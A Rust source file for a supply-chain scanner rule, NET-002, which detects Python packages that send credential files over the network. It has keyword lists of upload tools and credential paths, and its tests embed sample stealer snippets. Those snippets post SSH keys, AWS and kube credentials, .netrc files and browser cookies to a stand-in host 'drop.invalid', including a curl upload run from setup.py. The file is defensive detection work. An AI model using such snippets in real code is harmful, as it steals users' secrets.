//! `NET-002`: files with credentials leave over the network.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::sent::{FAR, command_lines, sends, spaced};
use super::{Rule, in_context, observe_call, observe_flow};
use crate::python::{Analysis, Context, Flow, Label};

/// The rule.
pub(super) struct CredentialFilesSent;

impl Rule for CredentialFilesSent {
    fn id(&self) -> &'static str {
        "NET-002"
    }

    fn severity(&self) -> Severity {
        Severity::Critical
    }

    fn title(&self) -> &'static str {
        "files with credentials are sent over the network"
    }

    fn manual(&self) -> &'static str {
        "A file that holds credentials reaches something that sends over the network, or \
         is named in a command that uploads: keys of SSH and clouds, `.netrc`, `.pypirc`, \
         browser profiles, wallets, keychains.\n\n\
         This is what stealers do. No library has a reason to send such a file anywhere.\n\n\
         Mistaken for it: a client that logs in with what `.netrc` or a keyring says, in \
         a header. That is information."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            if flow.label != Label::SecretFile || !sends(flow.kind) {
                continue;
            }
            let worst = match () {
                () if is_login(flow) => Severity::Info,
                () if flow.hops > FAR => Severity::Medium,
                () => Severity::Critical,
            };
            let severity = in_context(worst, flow.context);
            let confidence = Confidence::of(95).in_context(flow.context);
            let message = format!("{} sends {}", analysis.sink(flow).target, flow.what);
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
        for call in analysis.calls() {
            if !command_lines(call).iter().any(|line| uploads(line)) {
                continue;
            }
            let severity = in_context(Severity::Critical, call.context);
            let confidence = Confidence::of(90).in_context(call.context);
            let message = format!("{} starts a command that uploads credentials", call.target);
            observations.push(observe_call(self, call, (severity, confidence), message));
        }
    }
}

/// Files and services that exist to be logged in with.
const LOGINS: &[&str] = &[
    "netrc",
    "keyring",
    "token",
    ".pypirc",
    ".npmrc",
    ".env",
    "credentials",
    "kube",
    "gh/hosts",
    "dotenv",
];

fn is_login(flow: &Flow) -> bool {
    let is_header = matches!(&*flow.argument, "headers" | "auth" | "cookies" | "cert");
    let is_for_logins = LOGINS.iter().any(|part| flow.what.contains(part));
    is_header
        && is_for_logins
        && (flow.context <= Context::Entry || flow.what.starts_with("keyring"))
}

const UPLOADERS: &[&str] = &[
    " curl ",
    " wget ",
    " nc ",
    " ncat ",
    " scp ",
    " rsync ",
    " ftp ",
    " invoke-webrequest ",
    " socat ",
];
const CREDENTIALS: &[&str] = &[
    "/.ssh/",
    "id_rsa",
    "id_ed25519",
    ".aws/credentials",
    ".kube/config",
    ".netrc",
    ".pypirc",
    ".npmrc",
    ".docker/config",
    ".git-credentials",
    "/etc/shadow",
    ".gnupg",
    "wallet.dat",
    "login data",
    "key4.db",
    "login.keychain",
    ".vault-token",
    ".pgpass",
];

fn uploads(command: &str) -> bool {
    let line = spaced(command);
    // `ssh-keyscan … >> ~/.ssh/known_hosts` and a key to log in with are not uploads of the key.
    let names = |part: &str| line.contains(part) && !line.contains(&format!("-i {part}"));
    let gives = [
        "@",
        "<",
        " scp ",
        " rsync ",
        "--data",
        " -d ",
        " -t ",
        "--post-file",
        "|",
        "-infile",
        "$(",
    ];
    UPLOADERS.iter().any(|word| line.contains(word))
        && CREDENTIALS.iter().any(|part| names(part))
        && gives.iter().any(|way| line.contains(way))
        && !line.contains("known_hosts")
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn files_with_credentials_are_followed_to_the_network() {
        for (path, code) in [
            (
                "setup.py",
                "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://drop.invalid', data=k)",
            ),
            (
                "demo/__init__.py",
                "from pathlib import Path as P\nimport urllib.request as u\nu.urlopen('https://drop.invalid', data=(P.home() / '.aws' / 'credentials').read_bytes())",
            ),
            (
                "demo/__init__.py",
                "import socket, os\ns = socket.socket()\ns.connect(('drop.invalid', 1))\nfor n in ['.netrc', '.pypirc']:\n    with open(os.path.join(os.path.expanduser('~'), n), 'rb') as f:\n        s.sendall(f.read())",
            ),
            (
                "demo.pth",
                "import os, requests; requests.post('https://drop.invalid', files={'f': open(os.path.expanduser('~/.kube/config'), 'rb')})",
            ),
            (
                "setup.py",
                "import os\nos.system('curl -F f=@$HOME/.ssh/id_rsa https://drop.invalid')",
            ),
            (
                "setup.py",
                "import browser_cookie3 as b, requests\nrequests.post('https://drop.invalid', data=str(list(b.chrome())))",
            ),
        ] {
            found("NET-002", path, code);
        }
    }

    #[test]
    fn reading_them_or_logging_in_with_them_is_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
            ),
            (
                "demo/__init__.py",
                "import keyring, requests\ndef ask():\n    return requests.get('https://api.invalid', headers={'Authorization': keyring.get_password('a', 'b')})",
            ),
            (
                "setup.py",
                "import os\nos.system('curl -o a.tgz https://files.invalid/a.tgz')",
            ),
        ] {
            quiet("NET-002", path, code);
        }
    }
}
